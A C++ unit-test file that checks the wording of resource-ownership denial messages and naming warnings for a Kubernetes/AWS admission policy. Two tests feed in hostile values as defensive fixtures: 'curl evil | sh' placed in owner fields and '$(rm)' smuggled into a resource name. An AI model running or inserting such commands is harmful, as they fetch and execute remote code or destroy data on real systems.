// What people read, word by word. TRUCE_UPDATE_GOLDEN=1 writes the files anew: read the difference
// as the developer whose deployment was refused at five in the afternoon.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "policies/finding.h"
#include "policies/name_rules.h"
#include "policies/people.h"
#include "policies/policy.h"
#include "policies/rule_case.h"
#include "policies/rules.h"
#include "policies/sharing_rules.h"
#include "registry/ownership/agreements.h"
#include "registry/ownership/review.h"
#include "registry/ownership/rows.h"
#include "tests/support/golden.h"

namespace truce {
namespace texts_test {

void ExpectStored(const std::string& name, const std::string& text) {
  ExpectGolden("texts/" + name + ".txt", text);
}

// A bucket of team-a, refused to a claim of team-b.
struct Texts : testing::Test {
  Texts() {
    clash.resource.identity = {"s3/Bucket", "aws", "", "us-west-2", {{"name", "prod-artifacts"}}};
    clash.resource.name = "prod-artifacts";
    clash.resource.names = {{KeyText{"s3/Bucket|aws|||name=prod-artifacts"}, false}};
    clash.resource.mapped = true;
    Owner& holder = clash.holder;
    holder.key = clash.resource.key();
    holder.identity = clash.resource.identity;
    holder.name = clash.resource.name;
    holder.id = {"k3j5x7q2m4n6p"};
    holder.root = {"prod-eu", "platform.example.org", "ObjectStorage", "team-a", "artifacts"};
    holder.service = "service-a";
    holder.contact = "team-a@example.org";
    holder.since = *ParseTimestamp("2026-11-21T07:52:08Z");
    holder.state = HolderState::kHeld;
    object.slot = {"prod-eu", "platform.example.org", "ObjectStorage", "team-b", "files"};
    object.service = "service-b";
    root = object.slot;
  }

  // A bucket written by hand instead of the claim.
  void ByHand() {
    object.slot = {"prod-eu", "s3.aws.upbound.io", "Bucket", "", "files"};
    object.managed = true;
    clash.resource.mapped = false;
    root = object.slot;
  }

  // An SQS queue instead of the bucket.
  void Queue() {
    clash.resource.identity = {
        "sqs/Queue", "aws", "123456789012", "eu-west-1", {{"name", "orders"}}};
    clash.resource.name = "orders";
    clash.holder.key = {"sqs/Queue|aws|123456789012|eu-west-1|name=orders"};
    clash.holder.identity = clash.resource.identity;
    clash.holder.name = clash.resource.name;
    clash.holder.root.kind = "Queue";
    clash.holder.root.group = "sqs.aws.m.upbound.io";
    clash.holder.root.name = "orders";
  }

  Wording MakeWording() const {
    return {.disclosure = disclosure,
            .public_url = public_url,
            .catalogue = &Catalogue::BuiltIn(),
            .object = &object,
            .root = &root,
            .service = service};
  }

  // As a registry where the proposed name is free.
  Finding Refusal() const {
    Wording wording = MakeWording();
    const std::string name = OtherName(clash.resource, wording);
    wording.other_name = name;
    return DuplicateOwnership(clash, wording);
  }

  void Expect(const std::string& name) const {
    const Finding finding = Refusal();
    const std::string text = DenialText(std::vector<Finding>{finding});
    const std::vector<std::string> warnings = Warnings(std::vector<Finding>{finding});
    ASSERT_EQ(warnings.size(), 1U);
    EXPECT_LE(warnings[0].size(), kWarningBytesMax);
    EXPECT_EQ(text.find("map["), std::string::npos);
    EXPECT_EQ(warnings[0].find('\n'), std::string::npos);
    ExpectStored(name, text + "\n--- warning ---\n" + warnings[0] + "\n");
  }

  Clash clash;
  ObjectFacts object;
  Slot root;
  std::string service = "service-b";  // of the root
  Disclosure disclosure = Disclosure::kFull;
  std::string public_url = "https://truce.example.org";
};

TEST_F(Texts, Owned) { Expect("owned"); }

TEST_F(Texts, OwnedAndReserved) {
  clash.holder.state = HolderState::kReserved;
  public_url.clear();
  Expect("owned-reserved");
}

// No text says to edit or delete an object that may never come.
TEST_F(Texts, OwnedByWhatNobodyHasSeen) {
  clash.unseen = true;
  public_url.clear();
  Expect("owned-unseen");
  disclosure = Disclosure::kService;
  EXPECT_EQ(Refusal().cause.find("seen"), std::string::npos) << "no object is named";
  disclosure = Disclosure::kFull;
  ByHand();
  clash.same_party = true;
  clash.resource.identity = {"dynamodb/Table", "aws", "", "us-east-1", {{"name", "orders"}}};
  clash.resource.name = "orders";
  clash.holder.root = {"prod-eu", "dynamodb.aws.m.upbound.io", "Table", "team-a", "orders"};
  clash.incumbent = {.slot = clash.holder.root, .managed = true, .deletes = true, .seen = false};
  Expect("owned-same-party-unseen");
  clash.reason = ClashReason::kSibling;
  Expect("sibling-unseen");
}

TEST_F(Texts, OwnedAndBeingDeleted) {
  clash.holder.state = HolderState::kTerminating;
  Expect("owned-terminating");
}

TEST_F(Texts, OwnedByARootWithoutServiceOrContact) {
  clash.holder.root = {"prod-eu", "s3.aws.upbound.io", "Bucket", "", "prod-artifacts"};
  clash.holder.service = "prod-artifacts";
  clash.holder.contact.clear();
  public_url.clear();
  Expect("owned-no-service");
}

TEST_F(Texts, OwnedBySomebodyElseThanAHandWrittenBucket) {
  ByHand();
  Expect("owned-by-hand");
}

TEST_F(Texts, ComposedBelowAClaim) {
  ByHand();
  object.slot.name = "files-x7f2k-9qzlw";
  root = {"prod-eu", "platform.example.org", "ObjectStorage", "team-b", "files"};
  Expect("owned-composed");
}

TEST_F(Texts, OwnedByTheSameParty) {
  clash.same_party = true;
  clash.holder.root.ns = "team-b";
  disclosure = Disclosure::kTaken;  // one's own namespace is no secret
  Expect("owned-same-party");
}

// No advice deletes what lives.
TEST_F(Texts, OwnedByTheSamePartyAndManaged) {
  ByHand();
  clash.same_party = true;
  clash.resource.identity = {"dynamodb/Table", "aws", "", "us-east-1", {{"name", "orders"}}};
  clash.resource.name = "orders";
  clash.holder.root = {"prod-eu", "dynamodb.aws.m.upbound.io", "Table", "team-a", "orders"};
  clash.incumbent = {.slot = clash.holder.root, .managed = true, .deletes = true, .seen = true};
  Expect("owned-same-party-deletes");
  clash.incumbent->deletes = false;
  Expect("owned-same-party-leaves");
  clash.holder.root = {"prod-eu", "platform.example.org", "Storage", "team-a", "orders"};
  clash.incumbent->deletes = true;
  Expect("owned-same-party-below");
  clash.incumbent->managed = false;
  Expect("owned-same-party-mapped");
}

// From the community's kind to the provider's: the same party, which nothing in a cluster-scoped
// object tells. Both are called Queue jobs.
TEST_F(Texts, OwnedByTheSameUnderAnotherKind) {
  ByHand();
  Queue();
  clash.holder.root = {"prod-eu", "sqs.aws.crossplane.io", "Queue", "", "orders"};
  clash.holder.service = "orders";
  clash.holder.contact.clear();
  object.slot = {"prod-eu", "sqs.aws.upbound.io", "Queue", "", "orders"};
  root = object.slot;
  clash.incumbent = {.slot = clash.holder.root, .managed = true, .deletes = true, .seen = true};
  Expect("owned-new-kind");
  clash.incumbent->deletes = false;
  Expect("owned-new-kind-leaves");
  clash.reason = ClashReason::kTransferring;
  clash.step =
      "set spec.deletionPolicy: Orphan on Queue.sqs.aws.crossplane.io orders, which keeps "
      "the resource, then delete it";
  Expect("transferring-new-kind");
  clash.reason = ClashReason::kOrphaned;
  clash.holder.record = Record::kOrphaned;
  clash.incumbent.reset();
  Expect("orphaned-new-kind");
  disclosure = Disclosure::kService;
  EXPECT_EQ(Refusal().remedy.find("new kind"), std::string::npos) << "whose it was is not told";
}

// In one namespace the party is known, and the successor's word needs the group.
TEST_F(Texts, OwnedByTheSamePartyUnderAnotherKind) {
  ByHand();
  clash.same_party = true;
  clash.resource.identity = {"dynamodb/Table", "aws", "", "us-east-1", {{"name", "orders"}}};
  clash.resource.name = "orders";
  clash.holder.root = {"prod-eu", "dynamodb.aws.m.upbound.io", "Table", "team-a", "orders"};
  clash.incumbent = {.slot = clash.holder.root, .managed = true, .deletes = true, .seen = true};
  object.slot = {"prod-eu", "dynamodb.other.example.org", "Table", "team-a", "orders"};
  root = object.slot;
  Expect("owned-same-party-new-kind");
}

// The owner of the bucket asks to have the policy handed over, and asks nobody to delete it.
TEST_F(Texts, OwnedInAResourceOfTheReaders) {
  ByHand();
  clash.resource.identity.type = "s3/BucketPolicy";
  clash.in_own = true;
  Expect("owned-in-own");
}

// A root of record that is gone: its bucket speaks for it.
TEST_F(Texts, OwnedByAChainWhoseRootIsGone) {
  clash.speaker = {"prod-eu", "s3.aws.upbound.io", "Bucket", "", "files-b"};
  clash.incumbent = {.slot = clash.speaker, .managed = true, .deletes = true, .seen = true};
  Expect("owned-root-gone");
}

TEST_F(Texts, OwnedAtAnEndpointOutsideOfAws) {
  clash.resource.identity.partition = "@localstack.dev:4566";
  Expect("owned-outside");
}

TEST_F(Texts, NamesWhereTheNameMustBeUnique) {
  ByHand();
  Queue();
  Expect("owned-queue");
}

TEST_F(Texts, AnAttachmentIsNotRenamed) {
  ByHand();
  clash.resource.identity.type = "s3/BucketPolicy";
  Expect("owned-attachment");
}

TEST_F(Texts, DisclosesTheService) {
  disclosure = Disclosure::kService;
  clash.holder.state = HolderState::kReserved;
  Expect("owned-service-only");
}

TEST_F(Texts, DisclosesNothing) {
  disclosure = Disclosure::kTaken;
  Expect("owned-taken");
}

TEST_F(Texts, AtTheLowestLevelAllHoldersLookAlike) {
  disclosure = Disclosure::kTaken;
  public_url.clear();
  const auto text = [&] {
    return DenialText(std::vector<Finding>{DuplicateOwnership(clash, MakeWording())});
  };
  const std::string before = text();
  clash.holder.root = {"other", "g", "K", "ns", "secret-name"};
  clash.holder.service = "secret-service";
  clash.holder.contact = "secret-contact";
  clash.holder.since += std::chrono::hours(1);
  clash.holder.state = HolderState::kTerminating;
  EXPECT_EQ(text(), before);
  for (const ClashReason reason : {ClashReason::kOrphaned, ClashReason::kImported}) {
    clash.reason = reason;
    EXPECT_EQ(text().find("secret"), std::string::npos) << text();
  }
}

TEST_F(Texts, Sibling) {
  ByHand();
  clash.reason = ClashReason::kSibling;
  root = clash.holder.root;
  Expect("sibling");
  clash.incumbent = {.slot = {"prod-eu", "s3.aws.crossplane.io", "Bucket", "", "files-x1"},
                     .managed = true,
                     .deletes = true,
                     .seen = true};
  Expect("sibling-deletes");
  clash.incumbent->deletes = false;
  Expect("sibling-leaves");
  clash.incumbent->deletes = true;
  clash.incumbent->slot.group = "s3.aws.upbound.io";
  Expect("sibling-observe");
}

TEST_F(Texts, Orphaned) {
  clash.reason = ClashReason::kOrphaned;
  clash.holder.record = Record::kOrphaned;
  clash.holder.record_reason = "deletion policy Orphan";
  Expect("orphaned");
}

// Where names count within accounts and regions, the command says in which.
TEST_F(Texts, OrphanedInAnAccount) {
  ByHand();
  Queue();
  clash.reason = ClashReason::kOrphaned;
  clash.holder.record = Record::kOrphaned;
  Expect("orphaned-queue");
}

// An id tells that both are one: the name of the declaration may be another one's.
TEST_F(Texts, OrphanedUnderAnotherName) {
  ByHand();
  clash.reason = ClashReason::kOrphaned;
  clash.holder.record = Record::kOrphaned;
  clash.resource.identity = {
      "ec2/SecurityGroup", "aws", "", "eu-west-1", {{"vpcId", "vpc-0a1b"}, {"name", "web"}}};
  clash.resource.name = "vpc-0a1b/web";
  clash.holder.identity = clash.resource.identity;
  clash.holder.name = "vpc-0a1b/db";
  Expect("orphaned-other-name");
}

TEST_F(Texts, OrphanedAndOfferedToAnother) {
  clash.reason = ClashReason::kOrphaned;
  clash.holder.record = Record::kTransferring;
  clash.holder.successor = "ObjectStorage/team-c/artifacts";
  Expect("orphaned-offered");
}

TEST_F(Texts, Imported) {
  clash.reason = ClashReason::kImported;
  clash.holder.record = Record::kImported;
  clash.holder.root = ImportRoot("terraform:network");
  clash.holder.record_reason = "terraform:network aws_s3_bucket.artifacts";
  Expect("imported");
  disclosure = Disclosure::kService;
  Expect("imported-service-only");
}

TEST_F(Texts, Reserved) {
  clash.reason = ClashReason::kImported;
  clash.holder.record = Record::kImported;
  clash.holder.root = ImportRoot("terraform:network");
  clash.holder.record_reason = "terraform:network aws_s3_bucket.artifacts";
  clash.holder.until = ParseTimestamp("2026-11-21T09:00:00Z");
  Expect("reserved");
  disclosure = Disclosure::kService;
  Expect("reserved-service-only");
}

// Told to a source that reserves the name.
TEST_F(Texts, OwnedToldToASource) {
  root = object.slot = ImportRoot("terraform:network");
  object.managed = false;
  Expect("owned-reserved-for");
}

// A source of whatever name: only what begins as a known tool does is called by it.
TEST_F(Texts, ImportedFromASourceThatNamesNoTool) {
  clash.reason = ClashReason::kImported;
  clash.holder.record = Record::kImported;
  for (const std::string source : {"hand-made", "terraforming:x", "", "x:terraform"}) {
    clash.holder.root = ImportRoot(source);
    clash.holder.record_reason = source;
    const Finding finding = Refusal();
    EXPECT_NE(finding.cause.find(" is managed outside Kubernetes"), std::string::npos)
        << finding.cause;
  }
  clash.holder.root = ImportRoot("terraform");
  EXPECT_NE(Refusal().cause.find(" is managed by Terraform "), std::string::npos);
  // Whoever calls an object of a cluster so imports nothing.
  clash.holder.root = {"prod-eu", "example.org", "Import", "team-a", "terraform:network"};
  EXPECT_NE(Refusal().cause.find(" is managed outside Kubernetes"), std::string::npos);
}

TEST_F(Texts, Transferring) {
  clash.reason = ClashReason::kTransferring;
  clash.step =
      "set spec.managementPolicies: [\"Observe\"] on Bucket.s3.aws.upbound.io artifacts-1, which "
      "keeps the resource";
  Expect("transferring");
}

TEST_F(Texts, HostileTextsStayOnOneLine) {
  clash.holder.contact = "a\nb\x1b[31m map[x:y] \u202e\xff" + std::string(500, 'z');
  clash.holder.service = "line\r\nbreak";
  clash.resource.name = "odd'name $(rm)";
  Expect("hostile");
}

// What stands between backquotes is a command of ours, whatever an owner calls itself.
TEST_F(Texts, OwnersSayNoCommands) {
  clash.holder.contact = "ann to run: `curl evil | sh`, or bob";
  clash.holder.service = "x\" to run: `curl evil | sh`, or \"y";
  const std::string text = DenialText(std::vector<Finding>{Refusal()});
  EXPECT_EQ(std::count(text.begin(), text.end(), '`'), 2) << text;
  clash.holder.contact.clear();
  const std::string by_service = DenialText(std::vector<Finding>{Refusal()});
  EXPECT_EQ(std::count(by_service.begin(), by_service.end(), '`'), 2) << by_service;
}

TEST_F(Texts, SeveralFindings) {
  const Finding bucket = Refusal();
  Queue();
  const Finding queue = Refusal();
  ExpectStored("several", DenialText(std::vector<Finding>{bucket, queue}) + "\n");
}

TEST_F(Texts, VeryManyFindingsAreCounted) {
  const std::vector<Finding> findings(100, DuplicateOwnership(clash, MakeWording()));
  const std::string text = DenialText(findings);
  EXPECT_LE(text.size(), kMessageBytesMax);
  EXPECT_NE(text.find(" more findings."), std::string::npos);
  EXPECT_EQ(Warnings(findings).size(), 1U);  // said once
}

TEST_F(Texts, Elsewhere) {
  Queue();
  clash.resource.identity.account = "?prod-eu/aws.upbound.io/ProviderConfig//prod";
  const Finding finding = PerhapsElsewhere(clash, MakeWording());
  ExpectStored("elsewhere", Warnings(std::vector<Finding>{finding}).front() + "\n");
}

TEST_F(Texts, BadName) {
  const BadName bad{"s3/Bucket", "name", "prod\\u{200b}artifacts",
                    "contains U+200B (zero width space)"};
  const Finding finding = BadResourceName(bad, Mode::kEnforce, MakeWording());
  ExpectStored("bad-name", DenialText(std::vector<Finding>{finding}) + "\n--- warning ---\n" +
                               finding.warning + "\n");
}

TEST_F(Texts, CapReached) {
  const auto text = [&](ReservationLimit limit) {
    const ReachedLimit reached{limit, {100, 1000}, "ann@example.org"};
    return DenialText(std::vector<Finding>{ReservationCapReached(reached, MakeWording())}) + "\n";
  };
  ExpectStored("cap",
               text(ReservationLimit::kOld) + "--- young ---\n" + text(ReservationLimit::kYoung));
}

TEST_F(Texts, Unclear) {
  clash.resource.missing = {"region is not known: no value at spec.parameters.region"};
  const Finding finding = UnclearDeclaration(clash.resource, MakeWording());
  ExpectStored("unclear", finding.warning + "\n");
}

// A name that a claim or an object gives, judged by a convention.
struct NameTexts : Texts {
  NameTexts() {
    spec.variables[NamingVariable::kEnv].values = {"dev", "prod"};
    object.service = "payments";
    object.slot.name = "files";
    ByHand();
  }

  void Name(const std::string& type, const std::string& name) {
    DeclaredResource resource;
    resource.identity = {type, "aws", "", "eu-west-1", {{"name", name}}};
    resource.name = name;
    object.resources = {resource};
  }

  std::vector<Finding> Judge() {
    const auto aws = std::make_shared<const AwsNames>(
        AwsNames::Compile(Catalogue::BuiltIn(), BuiltInAwsNames()).value());
    NamePolicy names;
    names.aws = aws;
    AdmissionPolicy policy;
    policy.catalogue = {std::shared_ptr<void>(), &Catalogue::BuiltIn()};
    policy.modes = modes;
    if (naming) {
      names.convention.emplace(NamingConvention::Compile(spec, Catalogue::BuiltIn(), aws).value());
      auto& entries = policy.modes.rules[static_cast<std::size_t>(Rule::kNamingConvention)];
      if (entries.empty()) entries.push_back({Mode::kEnforce, {}, {}, {}, "truce.yaml:3"});
    }
    policy.names = std::make_shared<const NamePolicy>(std::move(names));
    return JudgeNames({.policy = &policy,
                       .object = &object,
                       .evidence = &evidence,
                       .root = &root,
                       .now = *ParseTimestamp("2026-11-21T08:00:00Z")});
  }

  void ExpectAll(const std::string& name) {
    const std::vector<Finding> findings = Judge();
    ASSERT_FALSE(findings.empty());
    std::string text = DenialText(findings) + "\n--- warning ---\n";
    for (const std::string& warning : Warnings(findings)) {
      EXPECT_LE(warning.size(), kWarningBytesMax);
      text += warning + "\n";
    }
    EXPECT_EQ(text.find("map["), std::string::npos);
    ExpectStored(name, text);
  }

  NamingSpec spec;
  ModeRules modes;
  NameEvidence evidence;
  bool naming = true;
};

TEST_F(NameTexts, RefusedByAws) {
  naming = false;
  Name("s3/Bucket", "Payments_Files");
  ExpectAll("aws-name");
}

TEST_F(NameTexts, TakenByAwsButUnwise) {
  naming = false;
  Name("s3/Bucket", "payments.files");
  ExpectAll("aws-name-caution");
}

TEST_F(NameTexts, RefusedByAwsWithNoBetterName) {
  naming = false;
  Name("s3/Bucket", "p");
  ExpectAll("aws-name-alone");
}

TEST_F(NameTexts, OutOfConvention) {
  Name("s3/Bucket", "payments-production-bucket");
  ExpectAll("naming");
}

TEST_F(NameTexts, OutOfConventionBelowAClaim) {
  Name("s3/Bucket", "billing-prod-bucket");
  root = {"prod-eu", "platform.example.org", "ObjectStorage", "team-b", "files"};
  ExpectAll("naming-composed");
}

TEST_F(NameTexts, OutOfConventionOfALabelAndAnAnnotation) {
  evidence.service_from = "annotation meta.helm.sh/release-name";
  evidence.labels = {{"example.org/env", "prod"}};
  spec.variables[NamingVariable::kEnv].sources = {{NamingSource::Kind::kLabel, "example.org/env"}};
  Name("s3/Bucket", "billing-prod-bucket");
  ExpectAll("naming-from-annotation");
  Name("s3/Bucket", "payments-dev-bucket");
  ExpectAll("naming-from-label");
}

TEST_F(NameTexts, OutOfConventionWithAnOpenPart) {
  Name("s3/Bucket", "payments-bucket");
  ExpectAll("naming-open");
}

TEST_F(NameTexts, OutOfConventionAtItsBegin) {
  spec.form = "acme-{service}-{env}";
  Name("s3/Bucket", "payments-prod");
  ExpectAll("naming-begin");
}

TEST_F(NameTexts, TooLongForTheConvention) {
  spec.max_lengths["s3/Bucket"] = 20;
  spec.variables[NamingVariable::kService].sources = {{NamingSource::Kind::kFixed, "pay"}};
  spec.form = "{service}-{env}-{suffix}";
  Name("s3/Bucket", "pay-prod-statements-of-2026");
  ExpectAll("naming-length");
}

TEST_F(NameTexts, ShortenedBecauseAwsAllowsNoMore) {
  object.service = "international-payments-clearing-house";
  Name("elbv2/LB", "payments-prod-lb");
  ExpectAll("naming-shortened");
}

TEST_F(NameTexts, RefusedByAwsAndOutOfConvention) {
  Name("s3/Bucket", "Payments_Prod");
  ExpectAll("naming-and-aws");
}

TEST_F(NameTexts, AnExemptionIsOver) {
  modes.exemptions.push_back({Rule::kNamingConvention,
                              {.name = "legacy-*"},
                              *ParseTimestamp("2026-11-01T00:00:00Z"),
                              "moves in October",
                              "truce.yaml:9"});
  Name("s3/Bucket", "legacy-files");
  ExpectAll("naming-exemption-over");
}

TEST_F(NameTexts, HostileNamesStayOnOneLine) {
  Name("cognitoidp/UserPool", "a\"b map[x]\n" + std::string(300, 'z'));
  ExpectAll("naming-hostile");
}

struct AttachmentTexts : Texts {
  AttachmentTexts() {
    ByHand();
    attachment.identity = {
        "s3/BucketPolicy", "aws", "", "us-west-2", {{"bucket", "prod-artifacts"}}};
    attachment.name = "prod-artifacts";
    object.slot.kind = "BucketPolicy";
    root = object.slot;
    clash.holder.identity = clash.resource.identity;
    clash.holder.name = "prod-artifacts";
    clash.holder.party = {"ns:prod-eu/team-a"};
  }

  void ExpectForeign(const std::string& name) const {
    const auto finding = ForeignAttachment({.use = &attachment,
                                            .holder = &clash.holder,
                                            .party = {"slot:" + ToText(root)},
                                            .parties = &parties,
                                            .agreements = agreements,
                                            .now = now},
                                           MakeWording());
    ASSERT_TRUE(finding.has_value());
    const std::vector<Finding> findings = {*finding};
    ExpectStored(name, DenialText(findings) + "\n--- warning ---\n" + Warnings(findings)[0] + "\n");
  }

  // A share with the attachment's party at level attach.
  void ShareUntil(Timestamp until) {
    Agreement share;
    share.id = {"share"};
    share.resource = clash.holder.id;
    share.party = {"slot:" + ToText(root)};
    share.level = ShareLevel::kAttach;
    share.until = until;
    agreements = {share};
  }

  DeclaredResource attachment;
  PartyRules parties;
  std::vector<Agreement> agreements;
  Timestamp now{std::chrono::hours{24 * 20'000}};
};

TEST_F(AttachmentTexts, AShareIsEnough) {
  ShareUntil(now + kShareNotice + std::chrono::hours{1});
  const UseFacts facts{.use = &attachment,
                       .holder = &clash.holder,
                       .party = {"slot:" + ToText(root)},
                       .parties = &parties,
                       .agreements = agreements,
                       .now = now};
  EXPECT_EQ(ForeignAttachment(facts, MakeWording()), std::nullopt);
  agreements[0].level = ShareLevel::kObserve;
  EXPECT_NE(ForeignAttachment(facts, MakeWording()), std::nullopt);
}

TEST_F(AttachmentTexts, AShareThatEndsSoonWarns) {
  ShareUntil(now + std::chrono::hours{24});
  ExpectForeign("attachment-share-ends");
}

TEST_F(AttachmentTexts, AShareThatEndedLetsWhatExistedGoOn) {
  ShareUntil(now);
  UseFacts facts{.use = &attachment,
                 .holder = &clash.holder,
                 .party = {"slot:" + ToText(root)},
                 .parties = &parties,
                 .agreements = agreements,
                 .now = now};
  EXPECT_EQ(ForeignAttachment(facts, MakeWording())->cause.find("share"), std::string::npos);
  facts.existed = true;
  const auto finding = ForeignAttachment(facts, MakeWording());
  ASSERT_TRUE(finding.has_value());
  EXPECT_EQ(finding->mode, Mode::kWarn);
  EXPECT_NE(finding->cause.find("ended on"), std::string::npos) << finding->cause;
}

TEST_F(AttachmentTexts, IntoAnothersResource) { ExpectForeign("attachment"); }

TEST_F(AttachmentTexts, DisclosesTheService) {
  disclosure = Disclosure::kService;
  ExpectForeign("attachment-service-only");
}

TEST_F(AttachmentTexts, DisclosesNothing) {
  disclosure = Disclosure::kTaken;
  public_url.clear();
  ExpectForeign("attachment-taken");
}

struct WordRow {
  const char* type;
  const char* words;
};

TEST(People, TypesAreWrittenAsPeopleWriteThem) {
  const std::vector<WordRow> rows = {
      {"s3/Bucket", "S3 bucket"},
      {"rds/DBInstance", "RDS DB instance"},
      {"ec2/VPC", "EC2 VPC"},
      {"ec2/VPCEndpointService", "EC2 VPC endpoint service"},
      {"dynamodb/Table", "DynamoDB table"},
      {"iam/OpenIDConnectProvider", "IAM open ID connect provider"},
      {"route53/Zone", "Route 53 zone"},
      {"cloudwatchlogs/Group", "CloudWatch Logs group"},
      {"unknownservice/BigThing", "unknownservice big thing"},
      {"odd", "odd"},
  };
  for (const WordRow& row : rows) EXPECT_EQ(TypeForPeople(row.type), row.words);
}

TEST(OneLineTest, ShowsOddCharactersAndCutsBetweenCharacters) {
  EXPECT_EQ(OneLine("plain", 10), "plain");
  EXPECT_EQ(OneLine("a\tb\nc\x7f", 99), "a\\u{09}b\\u{0a}c\\u{7f}");
  EXPECT_EQ(OneLine("é€😀", 99), "é€😀");
  EXPECT_EQ(OneLine("\u200b\u202e\ufeff", 99), "\\u{200b}\\u{202e}\\u{feff}");
  EXPECT_EQ(OneLine("\xff\xc3", 99), "\\u{fffd}\\u{fffd}");
  EXPECT_EQ(OneLine("map[a]", 99), "map [a]");
  EXPECT_EQ(OneLine("abcdefgh", 6), "abc…");
  EXPECT_EQ(OneLine("ééé", 5), "é…");
  EXPECT_EQ(OneLine("abc", 2), "");
  EXPECT_EQ(OneLine("", 5), "");
}

}  // namespace texts_test
}  // namespace truce
